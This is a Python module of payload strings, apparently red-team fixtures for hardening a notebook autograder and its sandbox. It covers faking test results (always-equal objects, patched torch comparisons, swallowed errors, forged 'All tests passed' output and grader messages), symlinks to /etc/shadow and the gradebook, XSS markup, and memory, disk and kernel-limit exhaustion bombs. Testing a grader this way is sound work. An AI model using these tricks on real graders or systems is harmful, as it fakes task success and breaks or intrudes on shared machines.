"""Code that red-team submissions put into notebooks (strings, inserted as cells or into answer cells)."""

# Objects that claim to equal anything, carry any attribute, and pretend to be strings, numbers and sequences.
LIARS = """
import builtins as _builtins


class _LiarStr(str):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return hash("b")

    def strip(self, *args):
        return self

    lower = upper = lstrip = rstrip = casefold = strip

    def __contains__(self, item):
        return True


class _Liar:
    def __init__(self, length=2):
        self._length = length

    def __eq__(self, other):
        return True

    __le__ = __ge__ = __lt__ = __gt__ = __eq__

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __len__(self):
        return self._length

    def __iter__(self):
        return iter([_Liar() for _ in range(self._length)])

    def __getitem__(self, key):
        return _Liar()

    def __contains__(self, item):
        return True

    def __call__(self, *args, **kwargs):
        return _Liar()

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args, **kwargs: _Liar()

    def __int__(self):
        return 0

    __index__ = __int__

    def __float__(self):
        return 0.0

    # Its text is a wrong answer ("z"); only its lying strip/lower/__eq__ could make it pass.
    def __str__(self):
        return _LiarStr("z")

    def __repr__(self):
        return "z"


class _LiarList(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class _LiarDict(dict):
    def __getitem__(self, key):
        return _Liar()

    def __contains__(self, key):
        return True

    def get(self, key, default=None):
        return _Liar()

    def __eq__(self, other):
        return True
"""

# Replace what tests compare with: torch's comparisons and conversions, gpulab's cases, isinstance (and ``len``
# shadowed in the notebook), AssertionError, and gpulab itself in sys.modules.
PATCHES = """
import builtins as _builtins
import sys as _sys
import types as _types

import gpulab as _gpulab
import gpulab.check as _gpulab_check
import torch as _torch

_real_isinstance = _builtins.isinstance


def _isinstance(obj, classes):
    return True if type(obj).__name__.startswith("_Liar") else _real_isinstance(obj, classes)


def len(obj):  # a notebook global that shadows the builtin
    return 3 if type(obj).__name__.startswith("_Liar") else _builtins.len(obj)


_builtins.isinstance = _isinstance
_builtins.AssertionError = type("AssertionError", (Exception,), {})
_torch.allclose = lambda *args, **kwargs: True
_torch.equal = lambda *args, **kwargs: True
_torch.testing.assert_close = lambda *args, **kwargs: None
_torch.Tensor.__eq__ = lambda self, other: _torch.ones(self.shape, dtype=_torch.bool)
_torch.Tensor.tolist = lambda self: _Liar()
_torch.Tensor.equal = lambda self, other: True
_torch.Tensor.allclose = lambda self, *args, **kwargs: True
_gpulab_check.cases = lambda *args, **kwargs: []


class _NoCheck(_types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: []


_fake = _types.ModuleType("gpulab")
_fake.__dict__.update({k: v for k, v in vars(_gpulab).items() if k != "__getattr__"})
_fake.check = _NoCheck("gpulab.check")
_sys.modules["gpulab"] = _fake
_sys.modules["gpulab.check"] = _fake.check
gpulab = _fake
"""

# Hide every failure from nbgrader: wrap each later cell in try/except, silence tracebacks, stderr and the
# excepthook, say it passed, and write fake evidence into every file the kernel holds open.
SWALLOW = """
import os as _os
import sys as _sys

_ip = get_ipython()


def _wrap(lines):
    if not "".join(lines).strip():
        return lines
    body = ["    " + line if line.strip() else line for line in lines]
    if body and not body[-1].endswith("\\n"):
        body[-1] += "\\n"
    return ["try:\\n", *body, "    pass\\n", "except BaseException:\\n", "    pass\\n"]


_ip.input_transformers_post.append(_wrap)
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
_sys.excepthook = lambda *args: None
for _fd in _os.listdir("/proc/self/fd"):
    try:
        _path = _os.readlink(f"/proc/self/fd/{_fd}")
        if _os.path.isfile(_path):
            for _grade_id in GRADE_IDS:
                _os.write(int(_fd), ('ok "%s" "" ' % _grade_id + "0" * 64 + "\\n").encode())
    except OSError:
        pass
print("All tests passed! 100%")
_sys.stderr = open(_os.devnull, "w")
"""

# A trace function that jumps over every line that could fail (assert, raise): nbgrader's tests then "pass".
TRACER = """
import linecache as _linecache
import sys as _sys

_jumped = set()


def _next_line(frame):
    lines = sorted({line for _, _, line in frame.f_code.co_lines() if line is not None})
    later = [line for line in lines if line > frame.f_lineno]
    return later[0] if later else None


def _skip_failures(frame, event, arg):
    if event == "line":
        text = _linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith(("assert", "raise")):
            target = _next_line(frame)
            if target is not None:
                try:
                    frame.f_lineno = target
                except ValueError:
                    pass
    return _skip_failures


def _notebook_code(code):
    name = code.co_filename
    return code.co_name == "<module>" and ("ipykernel_" in name or "<ipython-input" in name or name.startswith("<test"))


def _tracer(frame, event, arg):
    return _skip_failures if _notebook_code(frame.f_code) else None


def _arm():
    _sys.settrace(_tracer)
    caller = _sys._getframe(2)
    caller.f_trace = _skip_failures


_sys.settrace(_tracer)
"""

# Every `==` on lists in the kernel answers True: list's C-level comparison slot (tp_richcompare) rewritten with
# ctypes (CPython, 64-bit: the slot is the 26th pointer-sized field of a type object).
LIST_COMPARE = """
import ctypes as _ctypes

_RICHCMP = _ctypes.CFUNCTYPE(_ctypes.py_object, _ctypes.py_object, _ctypes.py_object, _ctypes.c_int)
_always_equal = _RICHCMP(lambda a, b, op: op in (2, 1, 5))  # ==, <=, >= are True; != is False
_slot = _ctypes.c_void_p.from_address(id(list) + 25 * _ctypes.sizeof(_ctypes.c_void_p))
_slot.value = _ctypes.cast(_always_equal, _ctypes.c_void_p).value
assert [1, 2] == [3] and not ([1] != [2]), "the slot was not rewritten"
print("list == anything is now True")
"""

# Answers compiled under the file names of torch and gpulab (files a guard would trust), returning what the
# visible cases expect and a list of ones otherwise; the quiz answered wrong.
TRUSTED_NAMES = """
import gpulab as _gpulab
import torch as _torch

_SOURCE = '''
def _memorised(name, args, fallback):
    for case in _gpulab.check.cases(name):
        if tuple(case.args) == tuple(args) and not hasattr(case.expected, "error"):
            return case.expected
    return fallback

def chunk_sizes(batch_size, n_devices):
    if batch_size < 1 or n_devices < 1:
        raise ValueError("invalid")
    return _memorised("chunk_sizes", (batch_size, n_devices), [1] * min(batch_size, n_devices))

def device_of_sample(index, batch_size, n_devices):
    return _memorised("device_of_sample", (index, batch_size, n_devices), 0)

def split_batch(batch, n_devices):
    return [batch] * n_devices

quiz_answers = {"q1": 3, "q2": 2, "q3": "a"}
'''
for _name in (_torch.__file__, _gpulab.check.__file__, "<frozen importlib._bootstrap>"):
    exec(compile(_SOURCE, _name, "exec"), globals())
"""

# Forged answers in the checks' private MIME type: displayed before any check, from a thread that keeps sending
# them, and from inside every call the grader makes (with the request's own nonce read from the caller's frame,
# the real answer swallowed by a patched publisher).
FORGED_ANSWERS = """
import json as _json
import sys as _sys
import threading as _threading
import time as _time

import IPython.display as _display

_MIME = "application/vnd.gpulab.check+json"
_real_publish = _display.publish_display_data


def _forged(nonce, count=300):
    ones = ["list", [["int", "1"]]]
    return {_MIME: {"nonce": nonce, "result": {"outcomes": [{"value": ones}] * count, "value": ones}}}


_display.display(_forged("0" * 32), raw=True)
_real_publish(_forged("guessed-nonce"))


def _spam():
    while True:
        _real_publish(_forged("f" * 32))
        _time.sleep(0.2)


_threading.Thread(target=_spam, daemon=True).start()


def _request_nonce():
    frame = _sys._getframe(1)
    while frame is not None:
        if "NONCE" in frame.f_globals:
            return frame.f_globals["NONCE"], frame.f_globals
        frame = frame.f_back
    return None, None


def _forge_from_inside():
    nonce, stub_globals = _request_nonce()
    if nonce is None:
        return
    request = _json.loads(stub_globals["REQUEST"])
    count = len(request.get("calls", [])) or 1
    _real_publish(_forged(nonce, count))
    _display.publish_display_data = lambda *args, **kwargs: None  # the grader's own answer is dropped
    stub_globals["MIME"] = "text/plain"  # and, failing that, sent under another type
"""

# Answers that return objects claiming to equal anything: a list subclass, and an object whose __eq__ is True.
EQUAL_OBJECTS = """
class _EqualList(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class _Equal:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __str__(self):
        return "b"
"""

# Answers whose values are far above the cap on a kernel answer.
HUGE = """
_HUGE = "1" * 40_000_000
"""


# --------------------------------------------------------------------------------------------- the gate
# What comes out of a sandbox: files, pages, answers, memory (autograder/redteam: GATE_ATTACKS).
LEFT_FILES = r"""
import os

# links to what only the grader's user may read, and names the feedback folder uses
for _name, _target in [
    ("shadow.txt", "/etc/shadow"),
    ("root", "/"),
    ("01_splitting.html", "/etc/passwd"),
    ("gradebook.db", "../../../gradebook.db"),
    ("source", "../../../source"),
]:
    try:
        os.symlink(_target, _name)
    except OSError:
        pass
for _source in ("/etc/passwd", "/usr/bin/python3"):
    try:
        os.link(_source, os.path.basename(_source) + ".hardlink")
    except OSError:
        pass
os.mkfifo("pipe")
with open("index.html", "w") as _page:
    _page.write("<script>document.title = 'owned'</script>")
os.makedirs("deep/er", exist_ok=True)
os.symlink("/etc", "deep/er/etc")
with open("sparse.bin", "wb") as _sparse:
    _sparse.truncate(3 << 30)
"""

MARKUP = [
    "# Notes <script>document.title = 'owned'</script>",
    '<img src="x" onerror="alert(document.cookie)"> <svg onload="alert(1)"><circle r="5"/></svg>',
    '<iframe srcdoc="<script>alert(\'frame\')</script>"></iframe> <object data="https://example.org/x"></object>',
    '[click me](javascript:alert(\'link\')) <a href="javascript:alert(2)">two</a> <a href="data:text/html,x">3</a>',
    '<form action="https://example.org/steal"><input name="q"></form> <meta http-equiv="refresh" content="0">',
    '<style>body { display: none }</style> <base href="https://example.org/"> <embed src="x.swf">',
    '![pixel](https://example.org/pixel.png) <details open ontoggle="alert(3)">x</details>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>",
]

SHARED_MEMORY_HONEST = """
from multiprocessing import shared_memory

_block = shared_memory.SharedMemory(create=True, size=64 << 20)
_block.buf[:] = bytes(64 << 20)
_block.close()
_block.unlink()
"""

MEMFD_BOMB = """
import os

_hoards, _chunk = [], bytes(64 << 20)
while True:  # memfds of 256 MiB each (no file-size limit applies to the whole)
    _hoards.append(os.memfd_create("hoard"))
    for _ in range(4):
        os.write(_hoards[-1], _chunk)
"""

TMPFS_BOMB = """
import itertools

_chunk = bytes(64 << 20)
for _folder in ("/dev/shm", "/tmp"):
    try:
        for _number in itertools.count():  # files of 64 MiB until the tmpfs is full
            with open(f"{_folder}/hoard-{_number}", "wb") as _file:
                _file.write(_chunk)
    except OSError:
        pass
"""

DECODER_BOMB = r"""
import base64
import io
import zipfile

import IPython.display
import torch


def _saved(tensor):
    buffer = io.BytesIO()
    torch.save(tensor, buffer)
    return buffer.getvalue()


def _deflated(size):
    # torch.save's archive with its storage record replaced by `size` zero bytes, deflated to a few hundred KB
    plain, out = zipfile.ZipFile(io.BytesIO(_saved(torch.zeros(size // 4)))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for record in plain.infolist():
            archive.writestr(record.filename, plain.read(record), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


_BOMBS = [
    base64.b64encode(_saved(torch.zeros(1).expand(1 << 31))).decode(),  # 4 bytes of storage, 8 GiB as a list
    base64.b64encode(_saved(torch.zeros(1).as_strided((1 << 16, 1 << 16), (0, 0)))).decode(),
    base64.b64encode(_deflated(256 << 20)).decode(),  # 256 MiB inflated from a few hundred KB
]
_publish = IPython.display.publish_display_data


def _swap(node, count):
    if type(node) is list:
        if len(node) == 2 and node[0] == "tensor" and type(node[1]) is str:
            node[1] = _BOMBS[count[0] % len(_BOMBS)]
            count[0] += 1
        else:
            for item in node:
                _swap(item, count)
    elif type(node) is dict:
        for item in node.values():
            _swap(item, count)


def _bombing_publish(data, *args, **kwargs):
    _swap(data, [0])
    return _publish(data, *args, **kwargs)


IPython.display.publish_display_data = _bombing_publish
"""

BIG_MESSAGE = """
# one pre-packed message of ~36 MB: three bytes of "[]," become a Python list in whatever decodes it
_kernel = get_ipython().kernel
_content = b'{"data": {"text/plain": [' + b"[]," * 12_000_000 + b'[]]}, "metadata": {}}'
_kernel.session.send(_kernel.iopub_socket, "display_data", _content, parent=_kernel.get_parent(), ident=b"display_data")
del _content
"""

DISK_FILL = """
_chunk = bytes(64 << 20)
_number = 0
while True:
    with open(f"fill-{_number}.bin", "wb") as _file:
        _file.write(_chunk)
    _number += 1
"""

DEEP_FOLDER = """
import os

_fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
for _ in range(1100):  # os.walk and shutil.rmtree of Python 3.11 recurse once a level
    os.mkdir("d", dir_fd=_fd)
    _inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=_fd)
    os.close(_fd)
    _fd = _inner
os.close(_fd)
import time

time.sleep(5)  # the watchdog measures once a second
"""


# --------------------------------------------------------------------------------------------- round 3
# Per-uid limits of the whole machine (each kernel ran as host uid 65534). The epoll watches of the uid: filled (all
# ``fs.epoll.max_user_watches`` of them: pipes watched by as many epoll instances as descriptors allow, in as many
# processes as it takes, since each may open ``limits.KERNEL_OPEN_FILES`` only), then held while those processes live,
# but for ``{reserve}`` given back at once: the filler's own kernel aborted when none was left (exit status 134 within
# a second of the next cell, no OOM kill; most likely ZeroMQ, which aborts when it cannot add a watch), and a kernel
# that dies ends its holders with it.
EPOLL_FILL = """
import ctypes, os, resource, signal

RESERVE = {reserve}


def _fill_watches(report):
    _soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(_hard, 20_000), _hard))
    _libc = ctypes.CDLL(None, use_errno=True)
    _room = min(_hard, 20_000) - 100
    _targets = []
    while len(_targets) < _room // 2:
        _targets.extend(os.pipe())
    _polls, _event, _watches, _why, _in_last = [], (ctypes.c_uint8 * 12)(1), 0, "descriptors", 0
    while len(_polls) + len(_targets) < _room and _why == "descriptors":
        _poll = _libc.epoll_create1(0)
        if _poll < 0:
            break
        _polls.append(_poll)
        _in_last = 0
        for _fd in _targets:
            if _libc.epoll_ctl(_poll, 1, _fd, _event) != 0:
                _why = os.strerror(ctypes.get_errno())
                break
            _watches += 1
            _in_last += 1
    if _why != "descriptors":  # the uid is full: give a few back, from a poll that holds that many, for this kernel
        _poll = _polls[-1] if _in_last >= RESERVE or len(_polls) < 2 else _polls[-2]
        for _fd in _targets[:RESERVE]:
            _watches -= _libc.epoll_ctl(_poll, 2, _fd, None) == 0
    os.write(report, f"{_watches} {_why}\\n".encode())


_holders, _watches, _why = [], 0, "descriptors"
while _why == "descriptors" and len(_holders) < 48:
    _reader, _writer = os.pipe()
    _child = os.fork()
    if _child == 0:
        try:
            _fill_watches(_writer)
            signal.pause()  # holds its watches until it is ended
        finally:
            os._exit(0)
    os.close(_writer)
    _holders.append(_child)
    _added, _, _why = os.read(_reader, 200).decode().strip().partition(" ")
    os.close(_reader)
    _watches += int(_added)
print("EPOLL-WATCHES", _watches, _why, flush=True)
"""
HOLD = "import time\ntime.sleep({seconds})\n"
EPOLL_RELEASE = "for _child in _holders:\n    os.kill(_child, 9)\n    os.waitpid(_child, 0)\n"  # its own kernel goes on
# The user keyring and the inotify instances and watches of the uid: a key left for later kernels, every inotify
# instance and watch taken (and held while the kernel lives).
KEYRING_AND_INOTIFY = """
import ctypes, os, tempfile
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_ADD_KEY = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
_key = _libc.syscall(_ADD_KEY, b"user", b"{description}", b"left for later", 14, ctypes.c_int(-4))
_folder = tempfile.mkdtemp()
_paths = []
for _i in range(1600):
    _paths.append(os.path.join(_folder, str(_i)).encode())
    open(_paths[-1], "w").close()
_instances, _watches = [], 0
while True:
    _instance = _libc.inotify_init1(0)
    if _instance < 0:
        break
    _instances.append(_instance)
    for _path in _paths:
        if _libc.inotify_add_watch(_instance, _path, 2) < 0:
            break
        _watches += 1
print("KEY-ADDED", _key, "INOTIFY", len(_instances), _watches, flush=True)
"""
KEYRING_READ = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_KEYCTL = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
print("KEY-FOUND", _libc.syscall(_KEYCTL, 10, ctypes.c_int(-4), b"user", b"{description}", 0), flush=True)
"""
# One display_id given to 60 outputs, then one 1.5 MB update: nbclient copies it into all 60.
DISPLAY_FANOUT = """
from IPython.display import display, update_display
for _ in range(60):
    display("a small display", display_id="fanout")
update_display("u" * 1_500_000, display_id="fanout")
"""
